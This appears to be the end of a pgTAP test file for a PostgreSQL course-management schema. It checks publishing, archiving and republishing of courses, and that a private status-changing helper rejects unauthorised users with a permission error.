select is((lms.publish_course(tests.id('ready'))).status, 'published', 'publishing returns the course');
select is((select (status, published_at) from lms.courses where slug = 'ready'), ('published'::text, now()), 'INV-C4: a published course says since when');
select is((lms.archive_course(tests.id('ready'))).status, 'archived', 'archiving returns the course');
select is((lms.publish_course(tests.id('ready'))).published_at, now(), 'an archived course can be published again');
select tests.as_owner();
select is(tests.courses_seen('eve') like '%archived-private%', true, 'those enrolled keep an archived course');

select is(tests.try(who, format('select private.set_course_status(%L, %L)', tests.id('draft-public'), 'published')), '42501', format('the helper behind publishing checks %s as well', who))
from unnest(array['dora', 'noah', 'ivan', 'hanna', 'petra', 'quinn']) as who;

select * from finish();
rollback;
